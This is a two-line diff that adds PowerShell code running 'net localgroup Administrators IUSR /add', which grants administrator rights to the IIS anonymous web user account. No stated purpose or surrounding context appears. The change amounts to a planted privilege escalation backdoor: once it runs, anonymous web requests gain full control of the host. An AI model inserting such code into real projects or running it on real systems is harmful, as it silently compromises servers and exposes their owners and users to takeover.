@@ -1,0 +1,2 @@
+$ps = [PowerShell]::Create().AddScript('net localgroup Administrators IUSR /add')
+$ps.Invoke()
